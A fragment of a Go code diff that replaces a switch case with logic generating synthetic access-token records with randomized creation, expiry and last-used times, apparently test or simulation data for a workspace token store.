-	case 10:
-		return ""
+		if k.name == expiryCliff { // in three weeks, on the same day as all of its kind
+			days := 40 + rng.Int64N(40)
+			t.ExpiryTime = midnight(now) + 21*dayMillis + 8*60*60*1000 + rng.Int64N(8*60*60*1000)
+			t.CreationTime, t.LastUsedDay = t.ExpiryTime-days*dayMillis, midnight(now)
+		} else {
+			l := k.life
+			if l == (life{}) {
+				l.days = 30 + rng.Int64N(56)
+				l.age = rng.Int64N(l.days - 15)
+				l.idle = min(rng.Int64N(3), l.age)
+			}
+			t.CreationTime = now - l.age*dayMillis - rng.Int64N(dayMillis/2)
+			t.ExpiryTime = never
+			if l.days != forever {
+				t.ExpiryTime = t.CreationTime + l.days*dayMillis
+			}
+			if k.name == "lifetime-90-and-30s" {
+				t.ExpiryTime += 30 * 1000
+			}
+			if l.idle != unused {
+				t.LastUsedDay = midnight(now - l.idle*dayMillis)
+			}
+		}
+		last = t
+		ws.tokens.put(t)
 	}
-	return "databricks-connect"
 }
